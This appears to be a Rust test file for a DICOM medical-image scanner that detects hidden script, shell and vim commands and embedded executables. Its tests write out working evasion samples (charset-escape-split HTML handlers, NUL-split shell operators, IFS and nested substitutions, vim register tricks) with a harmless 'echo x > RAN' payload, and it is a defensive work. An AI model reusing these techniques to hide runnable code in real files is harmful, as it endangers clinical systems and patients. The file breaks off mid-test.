fn a_word_web_page_report_with_built_in_vml_behaviors_is_no_alert() {
    let word = "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\">\n\
        <head><meta name=Generator content=\"Microsoft Word 15\">\n<style>\nv\\:* {behavior:url(#default#VML);}\n\
        o\\:* {behavior:url(#default#VML);}\n.shape {behavior:url('#default#VML');}\n</style>\n\
        <style>\n<!--\n p.MsoNormal {margin:0cm;font-size:11.0pt;}\n-->\n</style></head>\n\
        <body lang=EN-US><p class=MsoNormal>Impression: no acute findings.</p></body></html>";
    assert_eq!(find_markup(word.as_bytes()), None);
    let dicom = kit::DicomBuilder::ct("1.2.3.53")
        .element(0x0029, 0x0010, *b"LO", b"ACME")
        .element(0x0029, 0x1010, *b"UT", word.as_bytes())
        .build();
    assert!(alerts(&inspect(&dicom)).is_empty());
    for runs in [
        "<style>v\\:* {behavior:url(#default#VML);} b{behavior:url(x.htc)}</style>",
        "<style>t\\:* {behavior:url(#default#time2)}</style>",
        // A list of behaviors, the built-in one first (MSDN: a space-delimited list).
        "<style>v\\:* {behavior:url(#default#VML) url(x.htc);}</style>",
        "<p style=\"-ms-behavior: url('#default#VML') url(http://x.example/a.htc)\">x</p>",
        "<p style=\"behavior:url(http://x.example/a.htc)\">x</p>",
    ] {
        assert!(
            find_markup(runs.as_bytes()).is_some_and(|m| m.severity == Severity::Alert),
            "{runs}"
        );
    }
}

/// Review s19-r10: MAX_STYLE_BYTES at, below and above. A style sheet of exactly the
/// limit, closed by `</style>`, is read whole: no warning (it was one, the closing tag
/// counted as content past the limit). One byte more is a warning naming the limit, and
/// script just past the limit is never taken as inert.
#[test]
fn a_style_sheet_at_the_limit_is_read_whole_and_past_it_is_a_warning() {
    let limit = pacsguard_dicom::MAX_STYLE_BYTES;
    let sheet = |len: usize| {
        let mut css = "p{color:red}".repeat(len / 12 + 1);
        css.truncate(len);
        css
    };
    for len in [limit - 1, limit] {
        let markup = format!("<style>{}</style><p>report</p>", sheet(len));
        assert_eq!(find_markup(markup.as_bytes()), None, "{len}");
    }
    let markup = format!("<style>{}</style>", sheet(limit + 1));
    let found = find_markup(markup.as_bytes()).expect("a warning past the limit");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(found.detail.contains("MAX_STYLE_BYTES"), "{found:?}");
    let markup = format!("<style>{}b{{x:expression(1)}}</style>", sheet(limit));
    assert!(find_markup(markup.as_bytes()).is_some_and(|m| m.severity != Severity::Info));
}

/// Session 20: an ordinary inline style sheet longer than 64 KiB (a saved web page, a
/// report that inlines Bootstrap) was a warning, and exit 1 pages someone. It is read
/// whole now; script at its end is still found.
#[test]
fn a_big_ordinary_inline_style_sheet_is_read_whole() {
    let css =
        ".table>tbody>tr>td{padding:.75rem;vertical-align:top;border-top:1px solid #dee2e6}\n"
            .repeat(200 * 1024 / 80);
    let page = format!("<html><head><style>{css}</style></head><body><p>report</p></body></html>");
    assert_eq!(find_markup(page.as_bytes()), None);
    let page = format!("<style>{css}b{{x:expression(alert(1))}}</style>");
    let found = find_markup(page.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
}

/// Review s19-r10: `<style>` candidates overlap (one every 7 bytes, none closed) and each
/// read its whole window: ~2 GB of work in one file, charged to nothing. The bytes they
/// read are charged to MAX_STYLE_SHEET_BYTES_PER_FILE, and reaching it is a warning
/// naming it (the search stops there, never silently).
#[test]
fn overlapping_style_candidates_reach_their_byte_limit_and_say_so() {
    let per_candidate = pacsguard_dicom::MAX_STYLE_BYTES;
    let file = "<style>".repeat(per_candidate / 7 + 4096);
    let found = find_markup(file.as_bytes()).expect("a warning");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(
        found.detail.contains("MAX_STYLE_SHEET_BYTES_PER_FILE"),
        "{found:?}"
    );
    // Reached after about LIMIT / MAX_STYLE_BYTES candidates, not at the candidate cap.
    let reached = found.offset / 7;
    assert!(
        reached <= pacsguard_dicom::MAX_STYLE_SHEET_BYTES_PER_FILE / per_candidate + 1,
        "{reached}"
    );
}

/// Review s19-r10: dash runs a substitution in a backquoted `${X:=`…`}` default and in
/// arithmetic `$(( $(…) ))`, each written as a whole UT value glued to the element's
/// header as in the session 19 walk-around: both were clean. Arithmetic and words
/// that only look like substitutions in a comment stay clean.
#[test]
fn substitutions_in_a_default_or_in_arithmetic_glued_to_a_header_are_found() {
    let file_with = |value: &str| {
        let mut value = value.as_bytes().to_vec();
        while !(value.len() as u8).is_ascii_alphabetic() || value.len() % 2 == 1 {
            value.push(b' ');
        }
        let mut file = vec![0u8; 128];
        file.extend_from_slice(b"DICM");
        let mut meta = Vec::new();
        kit::write_element(&mut meta, (0x0002, 0x0001), *b"OB", &[0, 1]);
        kit::write_element(
            &mut meta,
            (0x0002, 0x0002),
            *b"UI",
            b"1.2.840.10008.5.1.4.1.1.7",
        );
        kit::write_element(&mut meta, (0x0002, 0x0003), *b"UI", b"1.2.3.54");
        kit::write_element(&mut meta, (0x0002, 0x0010), *b"UI", b"1.2.840.10008.1.2.1");
        kit::write_element(
            &mut file,
            (0x0002, 0x0000),
            *b"UL",
            &(meta.len() as u32).to_le_bytes(),
        );
        file.extend_from_slice(&meta);
        kit::write_element(
            &mut file,
            (0x0008, 0x0016),
            *b"UI",
            b"1.2.840.10008.5.1.4.1.1.7",
        );
        kit::write_element(&mut file, (0x0008, 0x0018), *b"UI", b"1.2.3.54");
        kit::write_element(&mut file, (0x0010, 0x0010), *b"PN", b"DOE^JANE");
        kit::write_element(&mut file, (0x0019, 0x0010), *b"LO", b"ACME");
        kit::write_element(&mut file, (0x0019, 0x1010), *b"UT", &value);
        file
    };
    for value in [
        "${x:=`sh -c 'echo x > RAN'`}",
        "$(( $(sh -c 'echo x > RAN') ))",
        "$((1+`sh -c 'echo x > RAN'`))",
        // A letter outside ASCII in the substitution (UTF-8, ISO_IR 192; Latin-1 below).
        "`sh -c 'echo x > RAN' # Jos\u{e9}`",
        "$(sh -c 'echo \u{e9} > RAN')",
    ] {
        let file = file_with(value);
        assert!(
            runs_in_dir("dash", &["f"], b"", &[("f", &file)]),
            "dash did not run {value:?}"
        );
        let inspection = inspect(&file);
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Alert
                    && o.format == Some(Format::Shell)
                    && o.detail.contains("> RAN'")),
            "{value:?}: {inspection:#?}"
        );
    }
    for value in [
        "Dose $((2+3)) mGy, see `ref` and $(notes)",
        "cost $((RATE*2)) ${x:-`date`}",
    ] {
        assert!(alerts(&inspect(&file_with(value))).is_empty(), "{value:?}");
    }
}

/// Review s19-r10 (false alarm): pydicom's CT_small (whose (0008,0060) tag is a chance
/// backquote) with a processing note using backquotes: dash pairs the header's
/// backquote with the note's first one, meets the note's apostrophe inside that
/// substitution and stops on "Unterminated quoted string", running none of the note;
/// the substitution judged by its own text (session 19) made it an alert.
#[test]
fn a_note_with_backquotes_after_a_chance_header_backquote_is_no_alert_when_dash_stops() {
    let note =
        b"Steps: it's `a` then\n# log `.profraw` files in /tmp/x\n./main data1\n# merge `all`\n";
    // pydicom's CT_small with the note in a private element before its Pixel Data.
    let mut file = kit::pydicom_sample("CT_small.dcm");
    let pixels = file
        .windows(4)
        .rposition(|w| w == [0xe0, 0x7f, 0x10, 0x00])
        .expect("Pixel Data");
    let mut private = Vec::new();
    kit::write_element(&mut private, (0x0029, 0x0010), *b"LO", b"ACME");
    kit::write_element(&mut private, (0x0029, 0x1010), *b"UT", note);
    file.splice(pixels..pixels, private);
    let dir = TempDir::new();
    std::fs::write(dir.path("f"), &file).expect("write");
    let out = Command::new("dash")
        .arg("f")
        .current_dir(&dir.0)
        .output()
        .expect("dash");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Unterminated quoted string"), "{stderr}");
    assert!(!stderr.contains("main"), "{stderr}");
    let inspection = inspect(&file);
    assert!(
        alerts(&inspection).is_empty(),
        "{:#?}",
        inspection.observations
    );
}

/// Review s19-r10 (false alarm): the print style sheet of HTML5 Boilerplate, which
/// rustdoc's `rust.css` and countless web-page reports carry, names `javascript:` in an
/// attribute selector (`a[href^="javascript:"]:after { content: ""; }`): a match on
/// links, no URL the engine loads. It was an alert once `<style>` was read; script URLs
/// (`url(javascript:…)`, `@import 'javascript:…'`) stay alerts.
#[test]
fn a_print_style_sheet_selecting_javascript_links_is_no_alert() {
    let report = "<html><head><style>@media print {\n a, a:visited { text-decoration: underline; }\n\
        a[href]:after { content: \" (\" attr(href) \")\"; }\n\
        a[href^=\"javascript:\"]:after, a[href^=\"#\"]:after { content: \"\"; }\n\
        a[href*='vbscript:'] { display: none }\n}</style></head><body>Impression: normal.</body></html>";
    assert_eq!(find_markup(report.as_bytes()), None);
    for runs in [
        "<style>b{background:url(javascript:alert(1))}</style>",
        "<style>b{background:url( 'javascript:alert(1)' )}</style>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style>a[href^=\"x\"]{} b{list-style:url(\"vbscript:msgbox(1)\")}</style>",
    ] {
        assert!(
            find_markup(runs.as_bytes()).is_some_and(|m| m.severity == Severity::Alert),
            "{runs}"
        );
    }
}

/// Review s19-r10: a file that opens with a `<style>` element (mshta renders it as HTML,
/// and runs its `expression()`) was a not-DICOM warning where one opening with `<script>`,
/// `<svg>` or the same sheet in UTF-16 was an alert: `<style` opens HTML for the sniffer
/// too. A benign style sheet stays no alert.
#[test]
fn a_file_opening_with_a_style_element_that_runs_script_is_an_alert() {
    for runs in [
        "<style>b{width:expression(alert(1))}</style>",
        " \n<STYLE>b{background:url(javascript:alert(1))}</STYLE><p>x</p>",
    ] {
        assert!(!alerts(&inspect(runs.as_bytes())).is_empty(), "{runs}");
    }
    assert!(alerts(&inspect(b"<style>p{color:red}</style><p>Report</p>")).is_empty());
}

/// Review s19-r10, fixed in session 21: dash runs a substitution nested in another
/// (`x=$(echo $(sh -c …))`: the model read one level deep), one in the body of an
/// unquoted here-document (`cat <<E` / `$(sh -c …)` / `E`: the body is expanded), and
/// the fifth substitution of one word (only four were kept); each was clean, in a text
/// file as in a value glued to an element header. A quoted delimiter keeps the body as
/// written (dash runs nothing of it).
#[test]
fn substitutions_nested_or_in_a_here_document_are_found() {
    // After binary bytes, as in a file whose header dash reads as one word.
    for case in [
        "x=$(echo $(sh -c 'echo x > RAN'))\n",
        "cat <<E\n$(sh -c 'echo x > RAN')\nE\n",
        "cat <<-E\n\tnote `sh -c 'echo x > RAN'`\n\tE\n",
        "x=$(true)$(true)$(true)$(true)$(sh -c 'echo x > RAN')\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
    for quoted in [
        "cat <<'E'\n$(sh -c 'echo x > RAN')\nE\n",
        "cat <<\\E\n`sh -c 'echo x > RAN'`\nE\n",
    ] {
        assert!(
            !runs_in_dir("dash", &["f"], b"", &[("f", quoted.as_bytes())]),
            "dash ran {quoted:?}"
        );
        assert_eq!(find_shell_command(quoted.as_bytes()), None, "{quoted:?}");
    }
}

/// MAX_SHELL_SUBSTITUTION_NESTING: a command nested that deep is found; one level deeper
/// is a warning naming the limit (dash runs it: never silence).
#[test]
fn substitutions_nested_to_their_limit_are_read_and_past_it_are_a_warning() {
    let nested = |levels: usize| {
        format!(
            "x={}$(sh -c 'echo x > RAN'){}\n",
            "$(echo ".repeat(levels - 1),
            ")".repeat(levels - 1)
        )
    };
    let limit = pacsguard_dicom::MAX_SHELL_SUBSTITUTION_NESTING;
    for levels in [limit, limit + 1] {
        let script = nested(levels);
        assert!(
            runs_in_dir("dash", &["f"], b"", &[("f", script.as_bytes())]),
            "dash did not run {script:?}"
        );
    }
    let found = find_shell_command(nested(limit).as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
    let found = find_shell_command(nested(limit + 1).as_bytes()).expect("a warning");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(
        found.detail.contains("MAX_SHELL_SUBSTITUTION_NESTING"),
        "{found:?}"
    );
}

/// Review s19-r10: a cabinet file named `setup.exe.` or `setup.exe ` (Windows drops
/// trailing dots and spaces when the file is created, so `expand` writes `setup.exe`)
/// was clean, in an element and on its own.
#[test]
fn a_cabinet_program_named_with_a_trailing_dot_or_space_is_found() {
    for name in ["setup.exe.", "setup.exe. .", "setup.exe "] {
        let dir = TempDir::new();
        std::fs::write(dir.path(name), kit::real_pe()).expect("write");
        run("gcab", &["-c", "-z", "evil.cab", name], &dir.0);
        let cab = std::fs::read(dir.path("evil.cab")).expect("read");
        let dicom = kit::DicomBuilder::ct("1.2.3.56")
            .element(0x0029, 0x0010, *b"LO", b"ACME")
            .element(0x0029, 0x1010, *b"OB", &cab)
            .build();
        for bytes in [&cab[..], &dicom[..]] {
            let inspection = inspect(bytes);
            assert!(
                alerts(&inspection).iter().any(|a| a.contains("setup.exe")),
                "{name:?}: {:#?}",
                inspection.observations
            );
        }
    }
}

/// chromium's DOM of `page` (saved as an `.html` file) once loaded, its handlers run:
/// how a browser engine tokenizes the markup, and whether its script ran.
fn chromium_dom(page: &[u8]) -> String {
    let dir = TempDir::new();
    let path = dir.path("page.html");
    std::fs::write(&path, page).expect("write");
    let out = Command::new("timeout")
        .arg("120")
        .arg("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=2000",
        ])
        .arg(format!("--user-data-dir={}", dir.path("profile").display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", path.display()))
        .env("HOME", &dir.0)
        .output()
        .expect("chromium (scripts/setup-test-deps.sh installs it)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// pydicom's real CT_small.dcm with `value` in a private UT element after its Pixel
/// Data, as a viewer or a modality would store a report.
fn in_real_ct(value: &[u8]) -> Vec<u8> {
    let mut file = kit::pydicom_sample("CT_small.dcm");
    kit::write_element(&mut file, (0x7FE1, 0x0010), *b"LO", b"ACME");
    kit::write_element(&mut file, (0x7FE1, 0x1010), *b"UT", value);
    file
}

/// Session 21: UTF-16 markup was read only up to its first character past Latin-1, so
/// a tag or a style sheet holding one (a Japanese or Greek name in an `alt`, a comment
/// in a sheet) hid what followed: chromium ran the handler (it set `data-ran`) and
/// keeps the behavior in the sheet, and the file was clean. UTF-16BE, read as LE one
/// byte in, lost the character before each one past Latin-1 (`alt="x"日` lost its
/// closing quote, and the handler after it was taken for part of the value).
#[test]
fn utf16_markup_is_read_past_characters_beyond_latin1() {
    let ran = "document.body.setAttribute('data-ran','RAN')";
    let cases = [
        (
            format!("<html><body><img alt=\"日本\" src=x onerror=\"{ran}\"></body></html>"),
            "data-ran=\"RAN\"",
        ),
        (
            format!("<html><body><img alt=\"x\"日 src=x onerror=\"{ran}\"></body></html>"),
            "data-ran=\"RAN\"",
        ),
        (
            format!(
                "<html><body><svg><image title=\"Ωμέγα\" href=x onerror=\"{ran}\"/></svg></body></html>"
            ),
            "data-ran=\"RAN\"",
        ),
        (
            "<html><head><style>/* 患者 */ b{behavior:url(x.htc)}</style></head></html>".to_owned(),
            "b{behavior:url(x.htc)}</style>",
        ),
        (
            "<html><body><object data=\"x\" title=\"é€\" type=\"text/x-scriptlet\"></object></body></html>".to_owned(),
            "type=\"text/x-scriptlet\"",
        ),
    ];
    for (markup, seen) in cases {
        // Little-endian and big-endian, each with its byte-order mark (chromium, like
        // mshta, decodes both).
        let little: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(markup.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        let big: Vec<u8> = [0xFE, 0xFF]
            .into_iter()
            .chain(markup.encode_utf16().flat_map(u16::to_be_bytes))
            .collect();
        for (wide, order) in [(little, "LE"), (big, "BE")] {
            let dom = chromium_dom(&wide);
            assert!(
                dom.contains(seen),
                "chromium read {markup} ({order}): {dom}"
            );
            let found = find_markup(&wide);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|m| m.severity == Severity::Alert),
                "{markup} ({order}): {found:?}"
            );
            assert!(
                has_alert(&inspect(&in_real_ct(&wide)), FindingKind::ActiveContent),
                "in CT_small.dcm: {markup} ({order})"
            );
        }
    }
    // Text past Latin-1 around markup that runs nothing stays clean.
    for inert in [
        "<p title=\"日本\">患者 onerror = none</p>",
        "<style>/* 患者 */ p{color:red}</style><p>Ωμέγα</p>",
    ] {
        let little: Vec<u8> = inert.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> = inert.encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert_eq!(find_markup(&little), None, "{inert}");
        assert_eq!(find_markup(&big), None, "{inert} (BE)");
    }
}

/// Session 21: `</stylex>` (or `</style-x>`) was taken for the end of a style sheet,
/// and a raw-text element inside an `<object>` for ended at `</xmpx>`: chromium's
/// tokenizer ends them only at `</style` or `</xmp` followed by a blank, `/` or `>`,
/// and reads the behavior, `expression()` or `<param>` after as part of the sheet or
/// the object.
#[test]
fn raw_text_ends_only_at_an_appropriate_end_tag() {
    let cases = [
        (
            "<html><head><style>a{color:red}</stylex>b{behavior:url(x.htc)}</style></head></html>",
            "</stylex>b{behavior:url(x.htc)}</style>",
        ),
        (
            "<html><head><style>a{}</style-x>*{width:expression(alert(1))}</style ></head></html>",
            "</style-x>*{width:expression(alert(1))}</style>",
        ),
        (
            "<html><body><object data=x><xmp></xmpx></object></xmp><param name=code value=Evil.class></object></body></html>",
            "</xmpx></object></xmp><param name=\"code\" value=\"Evil.class\"></object>",
        ),
    ];
    for (markup, seen) in cases {
        let dom = chromium_dom(markup.as_bytes());
        assert!(dom.contains(seen), "chromium read {markup}: {dom}");
        let found = find_markup(markup.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|m| m.severity == Severity::Alert),
            "{markup}: {found:?}"
        );
        assert!(
            has_alert(
                &inspect(&in_real_ct(markup.as_bytes())),
                FindingKind::ActiveContent
            ),
            "in CT_small.dcm: {markup}"
        );
    }
    // Ended as the tokenizer ends them, in any case and spacing: what follows is text.
    for inert in [
        "<style>a{}</STYLE\t>b{behavior:url(x.htc)}",
        "<style>a{}</style/>b{x:expression(1)}",
        "<object data=x><xmp></XMP ></object><p>expression(1)</p>",
    ] {
        assert_eq!(find_markup(inert.as_bytes()), None, "{inert}");
    }
}

/// Session 21: a page of many small closed style sheets was charged the whole reach of
/// each (MAX_STYLE_BYTES) to MAX_STYLE_SHEET_BYTES_PER_FILE, so past ~60 of them in a
/// file of a megabyte the markup search stopped with a warning (exit 1) about nothing.
/// Each is charged what was read; script after them is still found.
#[test]
fn many_small_style_sheets_are_no_style_sheet_bomb() {
    let sheets = "<style>p{color:red}</style><p>report</p>\n".repeat(200);
    let page = format!("{sheets}{}", " ".repeat(1024 * 1024));
    assert_eq!(find_markup(page.as_bytes()), None);
    assert!(alerts(&inspect(&in_real_ct(page.as_bytes()))).is_empty());
    let page = format!("{page}<style>b{{x:expression(alert(1))}}</style>");
    let found = find_markup(page.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
}

/// Session 21: a `:redir` begun by a string run as Ex lines (`exe "redir @a"`), or
/// echoed into by one (`exe "echo …"` under the script's own `redir @a`), filled the
/// register the script then ran; `redir => x` filled a variable run by `exe x`; a
/// register put on a command line by CTRL-R (`exe "norm :\<C-R>a\r"`) ran as typed:
/// vim -es ran each (created RAN) and the file was clean.
#[test]
fn redirections_begun_or_echoed_into_by_execute_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for script in [
        format!("exe \"redir @a\"\necho \"!{pipe}\"\nredir END\n@a"),
        format!("redir @a\nexe \"echo \\\"!{pipe}\\\"\"\nredir END\n@a"),
        format!("exe \"sil! redir @b\"\nechon \"!{pipe}\"\nexe \"redir END\"\nexe \"@b\""),
        format!("exe 'redi! > r.vim'\necho \"!{pipe}\"\nredir END\nso r.vim"),
        // Into a variable run by `:execute`, and registers written by `:let` or
        // `setreg()` (in a string run as Ex lines too) then run or put on the command
        // line.
        format!("redir => x\necho \"!{pipe}\"\nredir END\nexe x"),
        format!("let @a = \"!{pipe}\"\nexe @a"),
        format!("let @a = \":!{pipe}\\r\"\nnorm @a"),
        format!("exe \"let @a = \\\"!{pipe}\\\"\"\n@a"),
        format!("call setreg(\"a\", \"!{pipe}\")\nexe \"norm :\\<C-R>a\\r\""),
    ] {
        // vim run on the lines of a file whose header holds no Ctrl-C: a real file's
        // (0002,0003) tag is the bytes 02 00 03 00, and vim -es fed a Ctrl-C in the
        // same read drops what it was running (seen with CT_small.dcm).
        let file = format!("\0\0\0DICM\x02\0 garbage\n{script}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {script}"
        );
        // In that file, and in the preamble of the real CT.
        let mut ct = kit::pydicom_sample("CT_small.dcm");
        let preamble = format!("{script}\n");
        assert!(preamble.len() <= 128, "{script}");
        ct[..128].fill(b'\n');
        ct[..preamble.len()].copy_from_slice(preamble.as_bytes());
        for bytes in [&file, &ct] {
            let found = pacsguard_dicom::find_ex_command(bytes);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{script}: {found:?}"
            );
        }
    }
    // CTRL-R in Insert mode types text (vim's own user manual, usr_51.txt), and a
    // variable no `:redir` fills runs nothing here.
    for script in [
        "let @a = 'x'\nyank\nexe \"normal viws\\<C-R>\\\" \\b\\e\"\n",
        "redir END\nlet l = 1\necho x\n",
    ] {
        assert_eq!(
            pacsguard_dicom::find_ex_command(script.as_bytes()),
            None,
            "{script}"
        );
    }
}

/// Session 22 (review r22-screen): a page that declares ISO-2022-JP (`<meta charset>`,
/// anywhere in the file: chromium read it after CT_small.dcm's Pixel Data) is decoded by
/// chromium with that charset, whose escape sequences (`ESC ( B`, `ESC ( J`) decode to
/// nothing: `on␛(Berror=` is an `onerror` handler and `<scr␛(Jipt>` a script element.
/// chromium ran both (set `data-ran`); read byte by byte neither is markup, and the file
/// was clean.
#[test]
fn markup_split_by_iso_2022_jp_escapes_is_read_as_the_declared_charset() {
    let ran = "document.body.setAttribute('data-ran','RAN')";
    let cases = [
        format!(
            "<html><head><meta charset=\"ISO-2022-JP\"></head><body><img src=x on\x1b(Berror=\"{ran}\"></body></html>"
        ),
        format!(
            "<html><head><meta charset=csISO2022JP></head><body><scr\x1b(Jipt>{ran}</script></body></html>"
        ),
        format!(
            "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-2022-jp\"></head><body><svg o\x1b(Bnload=\"{ran}\"></svg></body></html>"
        ),
        // In two-byte mode (`ESC $ B`) `="` is one character of an attribute's name:
        // read byte by byte the handler sits inside a quoted value.
        format!(
            "<html><head><meta charset=\"iso-2022-jp\"></head><body><img src=x b\x1b$B=\"\x1b(B onerror={ran} c=\"\">\n</body></html>"
        ),
        format!(
            "<html><head><meta charset=\"iso-2022-jp\"></head><body><iframe src=\"java\x1b(Bscript:parent.{ran}\"></iframe></body></html>"
        ),
    ];
    for page in cases {
        let dom = chromium_dom(page.as_bytes());
        assert!(
            dom.contains("data-ran=\"RAN\""),
            "chromium read {page:?}: {dom}"
        );
        let found = find_markup(page.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|m| m.severity == Severity::Alert),
            "{page:?}: {found:?}"
        );
        let ct = in_real_ct(page.as_bytes());
        assert!(
            chromium_dom(&ct).contains("data-ran=\"RAN\""),
            "chromium did not run {page:?} in CT_small.dcm"
        );
        assert!(
            has_alert(&inspect(&ct), FindingKind::ActiveContent),
            "in CT_small.dcm: {page:?}"
        );
    }
    // Japanese text in that charset, and the same escapes with no charset declared
    // (chromium reads them as text), run nothing.
    let japanese: Vec<u8> = b"<html><head><meta charset=\"iso-2022-jp\"></head><body><p>\x1b$B;3ED\x1b(B \x1b$BB@O:\x1b(B onerror = none</p></body></html>".to_vec();
    let undeclared = format!("<html><body><img src=x on\x1b(Berror=\"{ran}\"></body></html>");
    for inert in [japanese, undeclared.into_bytes()] {
        assert!(
            !chromium_dom(&inert).contains("data-ran=\"RAN\""),
            "{inert:?}"
        );
        assert_eq!(find_markup(&inert), None, "{inert:?}");
        assert!(
            alerts(&inspect(&in_real_ct(&inert))).is_empty(),
            "{inert:?}"
        );
    }
}

/// Review r22-screen: dash expands the word a `case` matches and its patterns (in order
/// until one matches), so a substitution there runs; and it gives IFS its value in every
/// shell, so a name split by `${IFS}` runs its first field. dash ran each (created RAN),
/// in a text file as after binary bytes, and each was clean.
#[test]
fn substitutions_in_a_case_word_and_names_split_by_ifs_are_found() {
    for case in [
        "case $(sh -c 'echo x > RAN') in *) ;; esac\n",
        "case a in $(sh -c 'echo x > RAN')) ;; esac\n",
        "case a in b|`sh -c 'echo x > RAN'`) ;; esac\n",
        "sh${IFS}-c${IFS}'echo x > RAN'\n",
        "${IFS}sh -c 'echo x > RAN'\n",
        "$IFS\"sh\" -c 'echo x > RAN'\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
    // A case over plain words or a harmless substitution, and IFS set, run nothing.
    for inert in [
        "case $1 in start) echo go ;; *) echo usage ;; esac\n",
        "case $(date) in *) echo go ;; esac\n",
        "IFS=,\nread -r a b <<E\n1,2\nE\n",
    ] {
        assert!(
            !runs_in_dir("dash", &["f"], b"", &[("f", inert.as_bytes())]),
            "{inert:?}"
        );
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r23-screen: the string `trap` runs (and an alias's value) is the word after
/// quote removal: `\"` inside double quotes and `\ ` outside them are a quote and a
/// space to dash, and a program named by a pattern (`/bin/d?sh`, `/usr/bin/pyth[o]n3`)
/// runs the file the pattern matches. dash ran each (created RAN), in a text file as
/// after binary bytes, and each was clean.
#[test]
fn trap_strings_after_quote_removal_and_programs_named_by_patterns_are_found() {
    for case in [
        "trap \"sh -c \\\"(echo x) > RAN\\\"\" EXIT\n",
        "trap sh\\ -c\\ \\'echo\\ x\\ \\>\\ RAN\\' EXIT\n",
        "alias t=\"sh -c \\\"echo x > RAN\\\"\"\nt\n",
        "/bin/d?sh -c 'echo x > RAN'\n",
        "/bin/[d]ash -c 'echo x > RAN'\n",
        "/???/d?sh -c 'echo x > RAN'\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
    // A harmless trap, and a C comment that starts a line (its `/*` names every file
    // of `/`, a directory first), run nothing.
    for inert in ["trap \"echo \\\"bye\\\"\" EXIT\n", "/* a comment */\n"] {
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r23-screen: dash drops NUL bytes before its lexer sees them, so a
/// here-document's delimiter line with a NUL in it (`E\0`) ends the body; the delimiter
/// is its word as written (`<<$E` ends at a line `$E`), however long. The commands after
/// each body ran (dash created RAN), in a text file as after binary bytes, and the file
/// was clean: the body was taken to run to the end of the file.
#[test]
fn here_documents_end_where_dash_ends_them() {
    let long = "D".repeat(70);
    for case in [
        ": <<E\nx\nE\0\nsh -c 'echo x > RAN'\n".to_owned(),
        ": <<E\nx\n\0E\nsh -c 'echo x > RAN'\n".to_owned(),
        ": <<E\0\nx\nE\nsh -c 'echo x > RAN'\n".to_owned(),
        ": <<$E\nx\n$E\nsh -c 'echo x > RAN'\n".to_owned(),
        format!(": <<{long}\nx\n{long}\nsh -c 'echo x > RAN'\n"),
    ] {
        assert_dash_runs_and_it_is_found(&case);
    }
    // The same commands inside a body that has not ended run nothing.
    for inert in [
        ": <<E\nx\nE \nsh -c 'echo x > RAN'\n".to_owned(),
        ": <<$E\nx\nE\nsh -c 'echo x > RAN'\n".to_owned(),
        format!(": <<{long}\nx\nDD\nsh -c 'echo x > RAN'\n"),
    ] {
        assert!(
            !runs_in_dir("dash", &["f"], b"", &[("f", inert.as_bytes())]),
            "{inert:?}"
        );
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r23-screen: digits right before a redirection operator are its file
/// descriptor (an IO_NUMBER, POSIX XCU 2.10.1), not the command's name: dash ran the
/// program after `2>/dev/null` (created RAN), and the file was clean.
#[test]
fn a_redirection_with_a_descriptor_before_the_name_is_no_name() {
    for case in [
        "2>/dev/null sh -c 'echo x > RAN'\n",
        "0</dev/null 2>&1 sh -c 'echo x > RAN'\n",
        "x=1 2>/dev/null sh -c 'echo x > RAN'\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
}

/// Review r23-screen: dash drops NUL bytes before its lexer, so `&\0&`, `|\0|`, `<\0<`
/// and `2\0>` are `&&`, `||`, `<<` and `2>`: dash ran the command after each (created
/// RAN), and the file was clean (read as an empty command, a syntax error).
#[test]
fn operators_split_by_nul_bytes_are_read_as_dash_reads_them() {
    for case in [
        "true &\0& sh -c 'echo x > RAN'\n",
        "false |\0| sh -c 'echo x > RAN'\n",
        ": <\0<E\nx\nE\nsh -c 'echo x > RAN'\n",
        "2\0>/dev/null sh -c 'echo x > RAN'\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
}

/// Review r22-screen: a function that runs a program, named by a string (`call()`,
/// `function()`, joined from parts or not) or called in a string run as an Ex line
/// (`exe "call system(…)"`), ran: vim -es created RAN for each, and the file was clean.
#[test]
fn vim_functions_named_by_strings_or_called_in_executed_strings_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for script in [
        format!("call call(\"system\", [\"{pipe}\"])"),
        format!("call call(\"sys\" . \"tem\", [\"{pipe}\"])"),
        format!("let F = function(\"sys\" . \"tem\")\ncall F(\"{pipe}\")"),
        format!("let F = function('systemlist')\ncall F(\"{pipe}\")"),
        format!("exe \"call system(\\\"{pipe}\\\")\""),
        format!("exe \"call sys\" . \"tem(\\\"{pipe}\\\")\""),
        "exe \"call job_start(['sh', '-c', 'echo x > RAN'])\"\nsleep 1".to_owned(),
